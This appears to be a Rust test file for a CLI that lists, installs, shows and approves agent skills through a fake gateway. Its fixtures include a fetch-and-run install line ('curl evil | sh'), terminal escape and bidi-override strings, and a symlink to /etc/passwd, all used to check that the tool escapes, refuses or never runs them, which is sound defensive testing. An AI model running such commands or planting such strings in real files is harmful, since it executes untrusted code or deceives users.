//! `gsv skills` against a gateway that the test plays: what is asked, what is shown, what is never sent.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::PathBuf;

use crate::common::Home;
use crate::common::fake_gateway::{Connection, FakeGateway};
use crate::common::play::{Play, asked, fed};
use serde_json::{Value, json};

const SHA: &str = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";

fn skill(name: &str, more: &Value) -> Value {
    let mut skill = json!({
        "name": name, "description": "Reads mail", "location": format!("agents/main/skills/{name}/SKILL.md"), "always": false,
        "eligible": true, "eligibleHosts": [], "reasons": [], "scope": "agent", "state": "ready", "sha256": SHA,
        "approvedAt": 1_771_502_400_000_u64, "approvedBy": "client:laptop"
    });
    skill.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
    skill
}

fn report(skills: &[Value]) -> Value {
    json!({"agentId": "main", "refreshedAt": 1, "nodes": [], "skills": skills})
}

fn folder(home: &Home, files: &[(&str, &str)]) -> PathBuf {
    let dir = home.root().join("mail");
    for (path, text) in files {
        let path = dir.join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }
    dir
}

#[test]
fn sk2_skills_are_listed_and_explained() {
    let changed = skill(
        "mail",
        &json!({"state": "changed", "eligible": false, "approvedSha256": "b".repeat(64), "description": "evil\u{202e}txt\u{1b}[2J",
            "reasons": ["Its files are not those that were approved."], "install": ["curl evil | sh"],
            "requirements": {"capabilities": ["shell.exec"], "bins": ["gh"]}}),
    );
    let all = report(&[skill("coding", &json!({"scope": "builtin"})), changed]);
    let run = asked(&["skills", "list"], "skills.status", &json!({}), &all).ok();
    assert!(run.stdout.contains("coding  ready    built in  Reads mail"), "{run:?}");
    assert!(
        run.stdout
            .contains("mail    changed  own       evil[U+202E]txt[U+001B][2J"),
        "{run:?}"
    );
    assert!(run.stderr.contains("1 not used"), "{run:?}");
    let run = asked(
        &["skills", "status", "--agent", "work"],
        "skills.update",
        &json!({"agentId": "work"}),
        &all,
    )
    .ok();
    assert!(
        run.stdout.contains("client:laptop") && run.stdout.contains("not those that were approved"),
        "{run:?}"
    );
    let run = asked(&["skills", "status", "mail"], "skills.update", &json!({}), &all).ok();
    for part in [
        "curl evil | sh (the author's text, never run)",
        "gh (not checked)",
        &"b".repeat(64),
        "shell.exec",
    ] {
        assert!(run.stdout.contains(part), "{part}: {run:?}");
    }
    let run = asked(&["skills", "status", "other"], "skills.update", &json!({}), &all).failed(1);
    assert!(run.stderr.contains("gsv skills list"), "{run:?}");
    let run = asked(
        &["skills", "status", "mail", "--json"],
        "skills.update",
        &json!({}),
        &all,
    )
    .ok();
    assert_eq!(run.json()["skills"].as_array().unwrap().len(), 1);
}

#[test]
fn th19_what_a_skill_hides_is_shown() {
    let answer = json!({"skill": skill("mail", &json!({})), "content": "# Mail\nsafe\u{202e}exe\n\u{1b}]52;c;x\u{7}end\n", "files": ["SKILL.md", "a.md"]});
    let run = asked(
        &["skills", "show", "mail"],
        "skills.show",
        &json!({"name": "mail"}),
        &answer,
    )
    .ok();
    assert!(
        run.stdout
            .ends_with("# Mail\nsafe[U+202E]exe\n[U+001B]]52;c;x[U+0007]end\n"),
        "{run:?}"
    );
    assert!(run.stdout.contains("SKILL.md, a.md"), "{run:?}");
    let run = asked(
        &["skills", "show", "mail", "--json"],
        "skills.show",
        &json!({"name": "mail"}),
        &answer,
    )
    .ok();
    assert_eq!(run.json(), answer);
}

#[test]
fn sk5_a_folder_or_a_file_is_installed() {
    let gateway = FakeGateway::new();
    let home = gateway.home();
    let text = "---\nname: post\ndescription: d\n---\n";
    let dir = folder(&home, &[("SKILL.md", text), ("ref/a.md", "a")]);
    let answer = json!({"skill": skill("mail", &json!({"install": ["brew install gh"]}))});
    let files = json!([{"path": "SKILL.md", "content": text}, {"path": "ref/a.md", "content": "a"}]);
    let path = dir.to_str().unwrap();
    let manual = dir.join("SKILL.md");
    let manual = manual.to_str().unwrap();
    let alone = json!([{"path": "SKILL.md", "content": text}]);
    for (args, params) in [
        (
            vec!["skills", "install", path],
            json!({"name": "mail", "scope": "agent", "files": files}),
        ),
        (
            vec!["skills", "install", path, "--name", "x", "--global", "--replace"],
            json!({"name": "x", "scope": "global", "files": files, "replace": true}),
        ),
        (
            vec!["skills", "install", manual, "--agent", "work"],
            json!({"agentId": "work", "name": "post", "scope": "agent", "files": alone}),
        ),
    ] {
        let run = fed(
            &home,
            &gateway,
            &args,
            "",
            vec![Box::new(|connection| {
                let request = connection.expect("skills.install");
                assert_eq!(request.params, params);
                connection.answer(&request, &answer);
            })],
        )
        .ok();
        assert!(run.stderr.contains("brew install gh (never run by GSV)"), "{run:?}");
    }
}

#[test]
fn sk5_what_does_not_belong_in_a_skill_is_named_and_nothing_is_sent() {
    let gateway = FakeGateway::new();
    let home = gateway.home();
    let dir = folder(
        &home,
        &[("SKILL.md", "---\nname: a\ndescription: d\n---\n"), (".env", "KEY=1")],
    );
    symlink("/etc/passwd", dir.join("passwd")).unwrap();
    let run = home.gsv(["skills", "install", dir.to_str().unwrap()]).failed(2);
    assert!(
        run.stderr.contains(".env is hidden") && run.stderr.contains("passwd is a symbolic link"),
        "{run:?}"
    );
    home.gsv(["skills", "install", "/nowhere"]).failed(1);
    home.gsv(["skills", "install", dir.to_str().unwrap(), "--global", "--agent", "a"])
        .failed(2);
}

#[test]
fn sk5_removing_names_the_scope() {
    let removed = json!({"removed": true, "scope": "agent"});
    asked(
        &["skills", "remove", "mail"],
        "skills.remove",
        &json!({"name": "mail", "scope": "agent"}),
        &removed,
    )
    .ok();
    asked(
        &["skills", "remove", "mail", "--global"],
        "skills.remove",
        &json!({"name": "mail", "scope": "global"}),
        &json!({"removed": true, "scope": "global"}),
    )
    .ok();
    let gateway = FakeGateway::new();
    let home = gateway.home();
    let run = fed(
        &home,
        &gateway,
        &["skills", "remove", "mail"],
        "",
        vec![Box::new(|connection| {
            let request = connection.expect("skills.remove");
            connection.error(&request, 560, "skill.not_found", "There is no skill `mail`.");
        })],
    )
    .failed(1);
    assert!(run.stderr.contains("--global"), "{run:?}");
}

#[test]
fn sk4_the_files_that_were_shown_are_approved() {
    let shown = json!({"skill": skill("mail", &json!({"state": "changed", "approvedSha256": "b".repeat(64)})), "content": "line\n".repeat(50), "files": ["SKILL.md"]});
    let gateway = FakeGateway::new();
    let home = gateway.home();
    let look = || -> Play<'_> {
        Box::new(|connection: &mut Connection| {
            let request = connection.expect("skills.show");
            connection.answer(&request, &shown);
        })
    };
    // Without a terminal, nothing is approved.
    let run = fed(&home, &gateway, &["skills", "approve", "mail"], "", vec![look()]).failed(2);
    assert!(run.stderr.contains("--yes"), "{run:?}");
    let run = fed(
        &home,
        &gateway,
        &["skills", "approve", "mail", "--yes"],
        "",
        vec![
            look(),
            Box::new(|connection: &mut Connection| {
                let request = connection.expect("skills.approve");
                assert_eq!(request.params, json!({"name": "mail", "sha256": SHA}));
                connection.answer(&request, &json!({"skill": skill("mail", &json!({}))}));
            }),
        ],
    )
    .ok();
    assert!(run.stdout.contains(SHA) && run.stdout.contains("line\n"), "{run:?}");
    assert!(
        run.stderr.contains("10 more lines") && run.stderr.contains("is approved"),
        "{run:?}"
    );
    // Changed in between: the gateway says so.
    let run = fed(
        &home,
        &gateway,
        &["skills", "approve", "mail", "--yes", "--json"],
        "",
        vec![
            look(),
            Box::new(|connection: &mut Connection| {
                let request = connection.expect("skills.approve");
                connection.error(&request, 562, "skill.changed", "The skill was changed meanwhile.");
            }),
        ],
    )
    .failed(1);
    assert!(run.stderr.contains("gsv skills show"), "{run:?}");
}

#[test]
fn f52_a_skill_with_binary_files_is_uploaded_and_then_installed() {
    let gateway = FakeGateway::new();
    let home = gateway.home();
    let text = "---\nname: post\ndescription: d\n---\n";
    let dir = folder(&home, &[("SKILL.md", text)]);
    fs::write(dir.join("icon.png"), [0_u8, 1, 0xff]).unwrap();
    let answer = json!({"skill": skill("mail", &json!({"state": "unchecked", "requirements": {"capabilities": [], "bins": ["gh"]}}))});
    let sent = format!("{text}\0\u{1}");
    let run = fed(
        &home,
        &gateway,
        &["skills", "install", dir.to_str().unwrap()],
        "",
        vec![Box::new(|connection| {
            let chunk = connection.expect("skills.upload");
            let bytes = data_encoding::BASE64
                .decode(chunk.params["content"].as_str().unwrap().as_bytes())
                .unwrap();
            assert_eq!(bytes, [sent.as_bytes(), &[0xff]].concat());
            assert_eq!(chunk.params["index"], 0);
            connection.answer(&chunk, &json!({"receivedBytes": bytes.len(), "expiresAt": 1}));
            let request = connection.expect("skills.install");
            assert_eq!(request.params["uploadId"], chunk.params["uploadId"]);
            assert_eq!(request.params["files"], json!([]));
            let places = request.params["uploaded"].as_array().unwrap();
            assert_eq!(places.len(), 2);
            assert_eq!(places[1]["path"], "icon.png");
            assert_eq!(
                (&places[1]["offset"], &places[1]["sizeBytes"]),
                (&json!(text.len()), &json!(3))
            );
            connection.answer(&request, &answer);
        })],
    )
    .ok();
    assert!(run.stderr.contains("state: not checked"), "{run:?}");
    assert!(!run.stderr.contains("ready"), "{run:?}");
}

#[test]
fn f52_a_skill_whose_program_was_not_looked_for_is_never_ready() {
    let needs = json!({"requirements": {"capabilities": [], "bins": ["gh"]}});
    let newer = skill(
        "a",
        &json!({"state": "unchecked", "requirements": needs["requirements"]}),
    );
    // A gateway of an earlier version calls it ready.
    let older = skill("b", &needs);
    let all = report(&[newer, older]);
    for args in [["skills", "list"], ["skills", "status"]] {
        let method = if args[1] == "list" {
            "skills.status"
        } else {
            "skills.update"
        };
        let run = asked(&args, method, &json!({}), &all).ok();
        assert_eq!(run.stdout.matches("not checked").count(), 2, "{run:?}");
        assert!(!run.stdout.contains("ready"), "{run:?}");
    }
}

#[test]
fn f12_a_skill_that_was_put_there_by_hand_needs_approval() {
    let mut found = skill("mail", &json!({"state": "changed", "eligible": false}));
    for key in ["approvedAt", "approvedBy"] {
        found.as_object_mut().unwrap().remove(key);
    }
    let run = asked(&["skills", "list"], "skills.status", &json!({}), &report(&[found])).ok();
    assert!(run.stdout.contains("needs approval"), "{run:?}");
    assert!(run.stderr.contains("gsv skills approve NAME"), "{run:?}");
}
